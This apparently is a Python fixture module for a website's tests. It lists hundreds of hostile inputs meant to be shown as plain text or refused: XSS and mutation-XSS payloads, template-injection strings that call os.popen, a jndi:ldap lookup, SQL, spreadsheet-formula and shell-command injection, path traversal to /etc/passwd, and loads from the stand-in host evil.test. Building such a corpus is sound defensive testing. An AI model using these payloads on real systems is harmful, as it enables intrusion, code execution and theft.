"""What a hostile home would write.

`STRINGS` are texts that are legal and must be shown as text; `REFUSED` must be refused.
"""

from __future__ import annotations

import unicodedata

HOOK = "__hit()"
"""What active strings call; the tests define it on every page."""

# Each of them does something where it is taken for what it looks like.
_CALLS = (
    "__hit()",
    "alert(1)",
    "console.log('__hit')",
    "window['__hit']()",
    "eval('__hit()')",
    "import('//evil.test/x.js')",
)
_EVENTS = (
    "onload",
    "onerror",
    "onclick",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onanimationstart",
    "onbegin",
    "onpointerenter",
    "onwheel",
)
_TAGS = (
    "img src=x",
    "svg",
    "body",
    "input autofocus",
    "details open",
    "video src=x",
    "audio src=x",
    "iframe",
    "object data=x",
    "marquee",
    "select autofocus",
    "style",
)
_SCHEMES = (
    "javascript:__hit()", "JaVaScRiPt:__hit()", "java\tscript:__hit()", " javascript:__hit()", "&#106;avascript:__hit()",
    "javascript&colon;__hit()", "vbscript:__hit()", "data:text/html,<script>__hit()</script>", "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=__hit()>", "javascript://%0a__hit()", "javascript:/*--></title></style>*/__hit()", "feed:javascript:__hit()",
    "blob:https://evil.test/1", "file:///etc/passwd", "view-source:x", "intent://x#Intent;end", "weixin://dl/business", "//evil.test/x",
    "\\\\evil.test\\x", "http://evil.test/", "https:evil.test", "ftp://evil.test/x", "tel:110;javascript:__hit()", "mailto:a@evil.test?bcc=b@evil.test",
)  # fmt: skip

_SCRIPTS = (
    "<script>__hit()</script>", "<SCRIPT>__hit()</SCRIPT>", "<script src=//evil.test/x.js></script>", "<script/x>__hit()</script>",
    "<scr<script>ipt>__hit()</script>", "</script><script>__hit()</script>", "</script", "</SCRIPT >", "<script", "<script type=module>__hit()</script>",
    "</title><script>__hit()</script>", "</textarea><script>__hit()</script>", "</style><script>__hit()</script>", "</noscript><script>__hit()</script>",
    "</template><img src=x onerror=__hit()>", "]]><script>__hit()</script>", "--><script>__hit()</script>", "<!--<script>__hit()", "<![CDATA[<img src=x onerror=__hit()>]]>",
    "<!--><img src=x onerror=__hit()>-->", "<!-- --!><img src=x onerror=__hit()>-->", "<!--", "-->", "--!>", "<!", "<?", "<?xml version='1.0'?>", "<![endif]-->", "]]>", "<![CDATA[",
    "<%= __hit() %>", "<!doctype x>", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "<<SCRIPT>__hit()//<</SCRIPT>", "<script>/*", "*/__hit()/*", "';__hit();//", "\";__hit();//",
    "\\';__hit();//", "\\\";__hit();//", "`;__hit();`", "${__hit()}", "</script>{", "};__hit();{", "'-__hit()-'", "\"-__hit()-\"", "'+__hit()+'", "\\u003cscript\\u003e__hit()",
    "\\x3cscript\\x3e__hit()", "%3Cscript%3E__hit()%3C/script%3E", "&lt;script&gt;__hit()&lt;/script&gt;", "&amp;lt;script&amp;gt;", "&#60;script&#62;__hit()", "&#x3c;script&#x3e;__hit()",
    "&lt;img src=x onerror=__hit()&gt;", "&NewLine;&Tab;&colon;", "&#0;&#x110000;&#xd800;", "&quot;onload=&quot;__hit()", "&amp;&amp;amp;", "&nbsp;&shy;&zwj;", "&bogus;&", "&#",
)  # fmt: skip
_ATTRIBUTES = (
    "\"><img src=x onerror=__hit()>", "'><img src=x onerror=__hit()>", "\" onmouseover=\"__hit()", "' onmouseover='__hit()", "\" autofocus onfocus=__hit() x=\"",
    "' autofocus onfocus=__hit() x='", "`onmouseover=__hit()", " onclick=__hit() ", "\"/onload=__hit()//", "'/onload=__hit()//", "x\" style=\"position:fixed", "x' style='x",
    "\" srcset=\"//evil.test/x.png", "\" href=\"javascript:__hit()", "\" target=_blank rel=opener \"", "\" data-hours='[[", "']\" data-next=\"", "\"]}'", "'}]\"", "\"", "'", "\"\"", "''", "`",
    ">", "<", "=", "/>", "'>", "\">", "<a", "<a href=", "</a>", "</p>", "</div></div></div>", "</body></html>", "<p>", "<br/>", "<hr>", "<wbr>", "<b>粗</b>", "<base href=//evil.test/>",
    "<base target=_blank>", "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=//evil.test>", "<link rel=prefetch href=//evil.test>",
    "<meta http-equiv=refresh content=0;url=//evil.test>", "<meta http-equiv=refresh content='0;javascript:__hit()'>", "<meta charset=utf-7>", "<meta name=referrer content=unsafe-url>",
    "<iframe src=javascript:__hit()>", "<iframe srcdoc='<script>__hit()</script>'>", "<iframe src=//evil.test>", "<embed src=//evil.test/x.swf>", "<object data=//evil.test>",
    "<applet code=x>", "<form action=//evil.test><button>", "<button formaction=javascript:__hit()>", "<input type=image src=//evil.test>", "<isindex action=javascript:__hit()>",
    "<video><source onerror=__hit()>", "<video poster=//evil.test/x>", "<audio src=//evil.test/x autoplay>", "<portal src=//evil.test>", "<frameset onload=__hit()>", "<bgsound src=//evil.test>",
    "<dialog open onclose=__hit()>", "<a href=javascript:__hit()>点</a>", "<a href='//evil.test' target=_blank>点</a>", "<a ping=//evil.test href=#>", "<img src=//evil.test/x.png>",
    "<img srcset=//evil.test/x.png>", "<img/src=x/onerror=__hit()>", "<img\nsrc=x\nonerror=__hit()>", "<img src=x onerror\n=__hit()>", "<img src=`x`onerror=__hit()>", "<image src=x onerror=__hit()>",
    "<IMG \"\"\"><SCRIPT>__hit()</SCRIPT>\">", "<img alt='`><img src=x onerror=__hit()>'>", "<x onclick=__hit() tabindex=1 id=x>", "<x-card>", "<slot onslotchange=__hit()>", "<plaintext>", "<xmp>",
    "<listing>", "<noembed>", "<noframes>", "<textarea>", "<title>", "<style>", "<select><option>", "<table><td>", "<math>", "<svg>", "<template>", "<noscript><p title='</noscript><img src=x onerror=__hit()>'>",
)  # fmt: skip
# Classics that are changed on their way through a cleaner.
_MUTATIONS = (
    "<math><mtext><table><mglyph><style><img src=x onerror=__hit()>", "<svg></p><style><a id='</style><img src=x onerror=__hit()>'>", "<svg><style><img src=x onerror=__hit()></style></svg>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=__hit()>", "<math><annotation-xml encoding='text/html'><img src=x onerror=__hit()>",
    "<svg><foreignObject><img src=x onerror=__hit()></foreignObject></svg>", "<svg><desc><noscript></noscript></desc><s><template><style><a title='</style><img src onerror=__hit()>'>",
    "<noembed><noembed title='</noembed><img src=x onerror=__hit()>'>", "<select><template><style><!--</style><a rel='--></style></template></select><img src onerror=__hit()>'>",
    "<svg/onload=__hit()>", "<svg onload=__hit()//", "<svg><script>__hit()</script></svg>", "<svg><script href=//evil.test/x.js /></svg>", "<svg><script>&#95;_hit()</script>",
    "<svg><a xlink:href='javascript:__hit()'><text y=20>x</text></a>", "<svg><animate onbegin=__hit() attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to=__hit()>",
    "<svg><a><animate attributeName=href values=javascript:__hit() /><text>x</text></a>", "<svg><use href='data:image/svg+xml,<svg id=x onload=__hit()>#x'/></svg>",
    "<svg><image href=//evil.test/x.png>", "<svg><style>@import'//evil.test/x.css'</style>", "<svg><title><style><img title='</style><img src=x onerror=__hit()>'>",
    "<math href=javascript:__hit()>点</math>", "<math><maction actiontype='statusline#//evil.test' xlink:href='javascript:__hit()'>", "<math><mi//xlink:href='data:x,<script>__hit()</script>'>",
    "<p id=__proto__><p id=location><p id=__hit name=x>", "<form id=document><input name=cookie>", "<a id=homesOpen href=x>", "<img name=getElementById>", "<b>粗<i>斜</b>乱</i>", "<b><p>乱</b></p>",
    "<div><div><div><div><div><div><div><div>", "</div></section></main></body>", "<p></p><p/><p", "<a href='x'x='<'>", "<a/href='x'>", "<<<<>>>>", "<>", "< script>__hit()</ script>", "<\u3000script>__hit()",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% raw %}", "{% endraw %}", "{% include '/etc/passwd' %}", "{% for x in y %}", "{%", "%}", "{{", "}}", "{#", "#}", "{{'a'|safe}}", "{% import os %}",
    "{{ site }}", "{{ page.meta }}", "{{ self._TemplateReference__context }}", "{{ lipsum.__globals__['os'].popen('id').read() }}", "${7*7}", "${jndi:ldap://evil.test/x}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "[[7*7]]", "*{7*7}",
    "%s", "%n%n%n", "%d%%", "%(name)s", "%x%", "%00", "%0d%0aX: 1", "%2e%2e%2f", "%c0%ae", "{0}", "{}", "{name}", "{0.__class__}", "{0!r:>{1}}", "{x:%Y}", "{{{{", "}}}}", "f'{1+1}'", "$HOME", "$(id)", "`id`", "!{x}", "@@MAIN@@",
    "@@TITLE@@", "@@HEAD@@", "@@DESCRIPTION@@", "--8<-- \"home.yml\"", "[TOC]", "!!! note", "{: onclick=__hit() }", "{: .btn #main style=x }", "::: x", "*[HTML]: x", "[^1]: x", "==x==", "++x++", "$$x$$", ":smile:", "---8<---",
)  # fmt: skip
_MARKDOWN = (
    "[点](javascript:__hit())", "[点](JAVASCRIPT:__hit())", "[点](java&#115;cript:__hit())", "[点](java%73cript:__hit())", "[点](\tjavascript:__hit())", "[点](<javascript:__hit()>)", "[点](vbscript:__hit())",
    "[点](data:text/html,<script>__hit()</script>)", "[点](//evil.test/)", "[点](http://evil.test/)", "[点](https://evil.test/)", "[点](https://evil.test/ \"\\\" onclick=__hit() x=\\\"\")", "[点](../../../etc/passwd)", "[点](#main)",
    "[点](mailto:a@evil.test?cc=b)", "[点](tel:110)", "[点](https://evil.test/'onclick='__hit\\(\\))", "[点](https://evil.test/\" \"x\")", "[点][甲]\n\n[甲]: javascript:__hit()", "[甲]: https://evil.test/ 'a\"b'", "[乙]: <javascript:__hit()>", "[]: x", "[点]",
    "<javascript:__hit()>", "<https://evil.test/\"onclick=__hit()>", "<data:text/html,x>", "<a@evil.test>", "https://evil.test/?a=<b>", "www.evil.test", "![图](https://evil.test/x.png)", "![图](//evil.test/x.png)", "![图](data:image/svg+xml,x)",
    "![图](javascript:__hit())", "![图](x.png\" onerror=\"__hit())", "![图\" onerror=\"__hit()](x.png)", "![图](photos/front.jpg)", "![\"><img src=x onerror=__hit()>](front.jpg)", "![图](../../bystander/photos/front.jpg)", "![图](/etc/passwd)", "![图][甲]",
    "[![图](front.jpg)](javascript:__hit())", "[a](<b)c>d(\">\"e)", "[x](y 'z\" onload=\"__hit()')", "`<script>__hit()</script>`", "``` <script>\n__hit()\n```", "```js\" onclick=\"__hit()\nx\n```", "~~~\n</code></pre><script>__hit()</script>\n~~~",
    "    <script>__hit()</script>", "# <script>__hit()</script>", "> <img src=x onerror=__hit()>", "- <svg onload=__hit()>", "1. <iframe>", "99999999999. x", "| a | <b> |\n|---|---|\n| <script>__hit()</script> | \" |", "***", "---", "___", "===", "\\", "\\<script\\>", "\\[x\\](y)",
    "*_*_*_", "**<b**>", "[" * 50, "]" * 50, "(" * 50, "*" * 60, "_" * 60, "`" * 60, "> " * 40 + "深", "- " * 40 + "深", "#" * 20, "&" * 40, "<" * 40, "!" + "[" * 40, "a**b" * 15, "[a](" * 15, "<a href='" * 8, "|" * 40,
)  # fmt: skip
_OTHER = (
    "' OR 1=1 --", "'; DROP TABLE homes; --", "1; SELECT pg_sleep(9)", "\" OR \"\"=\"", "admin'--", "%' AND 1=0 UNION SELECT", "=1+1", "=HYPERLINK(\"https://evil.test\")", "=cmd|'/c calc'!A0", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)",
    "＝1+1", "＋1", "－1", "＠SUM(1)", "\t=1+1", "  =1+1", ";=1+1", ",=1+1", "\"=1+1\"", "'=1+1", "=IMPORTXML(CONCAT(\"\",\"//evil.test\"))", "=WEBSERVICE(\"//evil.test\")", "DDE (\"cmd\";\"/C calc\")", "0012", "1e9", "1/2", "TRUE", "#REF!",
    "END:VEVENT", "X\\nEND:VCALENDAR", "x;y,z:w\\n", "BEGIN:VALARM", "SUMMARY:假", "甲\r\nATTENDEE:mailto:a@evil.test", "甲\nDTSTART:20200101", "Set-Cookie: a=b", "X\r\n\r\n<script>__hit()</script>", "a\u2028b", "a\u2029__hit()", "a\u0085b",
    "no", "yes", "null", "~", "on", "- x", "? x", ": x", "a: b", "a #b", "#x", "&a b", "*a", "!!python/object:os.system x", "!tag x", "|", ">-", "%YAML 1.1", "---", "...", "{a: b}", "[a, b]", "<<: *a", "'", "\"a", "@a", "`a", "0x1F", "0o17", "1_000", "1:30", "2026-13-45", ".inf", "a:\u3000b", "：", "甲：乙",
    "../../etc/passwd", "..\\..\\windows", "/etc/passwd", "C:\\CON", "CON", "NUL.txt", "a/../b", "./.", "..", ".", "~root", "file:///etc/passwd", "%2e%2e%2fetc", "....//....//etc", "a\\0.jpg", "-rf", "--help", "; rm -rf x", "| id", "&& id", "$(reboot)", "a\nb", "index.html", "__init__.py", ".htaccess", ".git/config", "web.config",
    "__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "then", "length", "undefined", "NaN", "Infinity", "-0", "true", "[object Object]", "0", "-1", "9" * 30, "1e400", "0x7fffffff",
    "expression(__hit())", "url(//evil.test/x)", "x;background:url(//evil.test)", "}*{background:url(//evil.test)}", "</style>", "/*", "*/", "@import '//evil.test/x.css';", "-moz-binding:url(//evil.test#x)", "behavior:url(//evil.test)", "\\65xpression(__hit())", "color:red!important",
    "好" * 20, "好" * 36, "W" * 38, "W" * 120, "好" * 118, "a b " * 28, "妇女之家", "妇女之家" * 8, "社区妇女之家", "示例" * 10, "，。、；：" * 5, "　　　甲　　　", "甲\u00a0乙", "₿€¥£", "½¼¾", "①②③㊙", "ﷺ", "ﷺ" * 18, "ｓｃｒｉｐｔ", "＜script＞__hit()＜/script＞", "‹script›", "ʺonload=__hit()ʺ", "İıſK", "ß" * 20, "ﬀﬁﬂ",
    "😀", "👩‍👩‍👧‍👦", "🇨🇳" * 8, "👍🏽" * 8, "𠮷野家", "𠀀𠀁𪜀", "\U0001f469\u200d\U0001f4bb", "❤️", "☎️110", "🀄" * 18, "e" + "\u0301" * 18, "Z" + "\u0335\u0336\u0334" * 6, "好" + "\u20dd" * 8, "ก็็็็็็็็็็", "\u0e47" * 20, "ᄀ" + "ᅡ" * 18, "か゛", "שלום עולם", "مرحبا", "قبل abc بعد", "ܐ" * 10, "नमस्ते",
    "a\u200bb", "\u200b\u200b甲", "甲\u200c乙", "a\u2060b", "a\u00adb", "a\u034fb", "\u115f\u1160", "\u3164", "\u2800\u2800", "a\ufe0fb", "\U000e0041\U000e0042", "a\u180eb", "\ufffc", "\u2063x\u2064",
    "{\"a\": 1}", "[1,2", "{\"@type\":\"x\"}", "\"}]}", "\\\"}", "\\u0000", "\\ud800", "\\x00", "\\n", "\\r\\n", "\\", "\\\\", "\\'", "\\\"", "/*__hit()*/", "//__hit()", "<!--#exec cmd='id'-->", "<?php __hit(); ?>", "<jsp:include page='x'/>", "<esi:include src='//evil.test'/>", "SSI<!--#include file='x'-->",
    "?q=<script>__hit()</script>", "#<img src=x onerror=__hit()>", "?street=x&home=y", "a=b&c=d", "a+b c%20d", "a;b|c:d,e", "x?y#z", "@media", "a@b@c", "user:pass@evil.test",
)  # fmt: skip


def _all() -> tuple[str, ...]:
    crossed = [
        f"<{tag} {event}={_CALLS[(n + m) % len(_CALLS)]}>"
        for n, tag in enumerate(_TAGS)
        for m, event in enumerate(_EVENTS)
    ]
    links = [f'<a href="{address}">点</a>' for address in _SCHEMES]
    every = (*_SCRIPTS, *_ATTRIBUTES, *_MUTATIONS, *_TEMPLATES, *_MARKDOWN, *_OTHER, *_SCHEMES, *crossed, *links)
    return tuple(dict.fromkeys(every))


STRINGS = _all()

_CONTROLS = [chr(code) for code in (0, 1, 7, 8, 11, 12, 27, 31, 127, 128, 155, 159)]
_BIDI = list("\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c")
_NONE = [
    "\ufeff",
    "\ufdd0",
    "\ufdef",
    "\ufff9",
    "\ufffa",
    "\ufffb",
    "\ufffe",
    "\uffff",
    "\U0001fffe",
    "\U0001ffff",
    "\U0010fffe",
    "\U0010ffff",
]
REFUSED = (
    *(f"甲{one}乙" for one in (*_CONTROLS, *_BIDI, *_NONE)),
    "\x1b[31m红",
    "a\x00.jpg",
    "\u202egpj.exe",
    "<scr\x00ipt>__hit()</script>",
    "\x1b]0;x\x07",
    "甲\ufffd乙",
)
LONE = ("\ud800", "\udfff", "a\udc80b", "\ud83d甲")
"""Halves of characters: no file can hold them, but as escapes in YAML or as stray bytes."""

AROUND = ("{}", "<p>{}</p>", '<p title="{}">x</p>', "<p title='{}'>x</p>", "<p title={}>x</p>", '<a href="{}">x</a>', "<svg>{}</svg>", "<svg><title>{}</title></svg>", "<table><tr>{}</table>",
          "<!-- {} -->", "<!-->{}-->", "<!-- --!>{}-->", "<![CDATA[>{}]]>", "<? >{}?>", "</ {}>", "<title>{}</title>", "<textarea>{}</textarea>", "<select>{}</select>", "<noscript>{}</noscript>",
          '<script type="application/ld+json">{}</script>', "<p {}>x</p>", "<p\n{}/>", "<div a='<' b=\">\">{}", "<pre>\n{}", "<ul><li>{}")  # fmt: skip
"""Markup that a string may come to stand in."""


def shown(text: str) -> str:
    """A string as a one-line field shows it."""
    return " ".join(unicodedata.normalize("NFC", text).split())
